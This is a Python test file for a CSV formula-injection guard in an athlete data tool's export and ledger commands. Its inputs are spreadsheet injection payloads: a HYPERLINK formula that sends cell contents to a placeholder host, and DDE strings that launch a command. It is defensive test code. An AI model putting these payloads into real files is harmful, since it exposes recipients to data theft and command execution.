"""CSV for people: formula-looking text cells are neutralised, numbers never change (issue 13 item 10)."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timezone

import polars as pl
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from reports.csv_safe import FORMULA_START, neutralize_formulas, people_csv_bytes

PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def test_owasp_characters_get_a_leading_quote_and_others_do_not():
    df = pl.DataFrame({"t": [*PAYLOADS, "running", "", None, " =1", "a=b", "'=x", "'"]})
    out = neutralize_formulas(df)["t"].to_list()
    assert out[: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
    assert out[len(PAYLOADS) :] == ["running", "", None, " =1", "a=b", "'=x", "'"]


def test_numbers_dates_and_booleans_are_untouched_negative_numbers_stay_numbers():
    df = pl.DataFrame(
        {
            "x": [-3.5, 2.0, None],
            "n": [-1, 0, 7],
            "d": [date(2026, 1, 2)] * 3,
            "ts": [datetime(2026, 1, 2, 3, 4, 5, tzinfo=timezone.utc)] * 3,
            "b": [True, False, None],
            "s": ["-1", "ok", "@x"],
        }
    )
    out = neutralize_formulas(df)
    assert out.select("x", "n", "d", "ts", "b").equals(df.select("x", "n", "d", "ts", "b"))
    rows = list(csv.reader(io.StringIO(people_csv_bytes(df, datetime_format="%Y-%m-%dT%H:%M:%SZ").decode())))
    assert rows[1][:2] == ["-3.5", "-1"] and rows[1][5] == "'-1"  # a numeric -1 stays, a text "-1" is quoted
    assert rows[1][3] == "2026-01-02T03:04:05Z" and rows[3][5] == "'@x"


def test_categorical_and_enum_columns_are_text_too():
    df = pl.DataFrame({"c": ["=1", "a"]}, schema={"c": pl.Categorical}).with_columns(
        pl.Series("e", ["+x", "y"], dtype=pl.Enum(["+x", "y"]))
    )
    assert neutralize_formulas(df).rows() == [("'=1", "'+x"), ("a", "y")]


@settings(max_examples=200, deadline=None)
@given(
    texts=st.lists(st.one_of(st.none(), st.text(max_size=12), st.sampled_from(PAYLOADS)), min_size=1, max_size=20),
    nums=st.lists(st.floats(allow_nan=False, allow_infinity=False, width=64), min_size=1, max_size=20),
)
def test_property_no_text_cell_starts_a_formula_and_nothing_else_changes(texts, nums):
    n = min(len(texts), len(nums))
    df = pl.DataFrame({"s": texts[:n], "x": nums[:n]}, schema={"s": pl.String, "x": pl.Float64})
    out = neutralize_formulas(df)
    assert out["x"].equals(df["x"])  # numbers unchanged, negative ones too
    for before, after in zip(df["s"].to_list(), out["s"].to_list(), strict=True):
        if before is None:
            assert after is None
        elif before[:1] in FORMULA_START and before:
            assert after == "'" + before  # the original is recoverable: drop the quote
        else:
            assert after == before
    # written and read back by a CSV reader, no text cell starts with a formula character
    rows = list(csv.reader(io.StringIO(people_csv_bytes(df).decode(), newline="")))
    assert len(rows) == n + 1
    for r, x in zip(rows[1:], nums[:n], strict=True):
        assert not r[0][:1] or r[0][:1] not in FORMULA_START
        assert float(r[1]) == x  # e.g. -0.5 is written as -0.5


def test_export_and_ledger_csv_neutralise_cells_from_the_store(tmp_path, monkeypatch):
    from features.schemas import SESSIONS, conform
    from pipelines.cli import app
    from pipelines.store import LedgerEntry, Store

    monkeypatch.delenv("STRAINWATCH_CONFIG", raising=False)
    monkeypatch.chdir(tmp_path)
    st = Store(tmp_path / "data")
    evil = '=HYPERLINK("http://evil.example","x")'
    rows = conform(
        pl.DataFrame(
            {
                "athlete_id": ["alice", "alice"],
                "source": ["generic_csv"] * 2,
                "sport": [evil, "running"],
                "start_utc": [
                    datetime(2026, 1, 5, 7, tzinfo=timezone.utc),
                    datetime(2026, 1, 6, 7, tzinfo=timezone.utc),
                ],
                "local_date": [date(2026, 1, 5), date(2026, 1, 6)],
                "duration_s": [3600.0, 1800.0],
                "source_file": ["+in/alice/s.csv", "@in/alice/t.csv"],
                "local_offset_s": [-18000, -18000],
            }
        ),
        SESSIONS,
    )
    st.write_partition("sessions", "alice", rows)
    out = tmp_path / "s.csv"
    res = CliRunner().invoke(app, ["export", "sessions", "--store", str(st.root), "--out", str(out)])
    assert res.exit_code == 0, res.output
    got = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert [r["sport"] for r in got] == ["'" + evil, "running"]
    assert [r["source_file"] for r in got] == ["'+in/alice/s.csv", "'@in/alice/t.csv"]
    assert [r["local_offset_s"] for r in got] == ["-18000", "-18000"]  # negative numbers stay numbers

    def number(v: str) -> bool:
        try:
            float(v)
            return True
        except ValueError:
            return False

    for r in got:  # every cell is empty, a number, or does not start a formula
        assert all(not v or number(v) or v[0] not in FORMULA_START for v in r.values())
    # the ledger as CSV: file names and rejection reasons come from the input folders
    st.ledger_add(
        [
            LedgerEntry(
                path="=cmd|'/C calc'!A0.csv",
                size_bytes=10,
                sha256="0" * 64,
                format=None,
                athlete_id="-bob",
                status="rejected",
                error="@unrecognised content, byte 0",
            )
        ]
    )
    led = tmp_path / "ledger.csv"
    res = CliRunner().invoke(app, ["ledger", "--store", str(st.root), "--csv", str(led)])
    assert res.exit_code == 0, res.output
    (r,) = list(csv.DictReader(io.StringIO(led.read_text(encoding="utf-8"), newline="")))
    assert r["path"] == "'=cmd|'/C calc'!A0.csv" and r["athlete_id"] == "'-bob"
    assert r["error"] == "'@unrecognised content, byte 0" and r["size_bytes"] == "10"
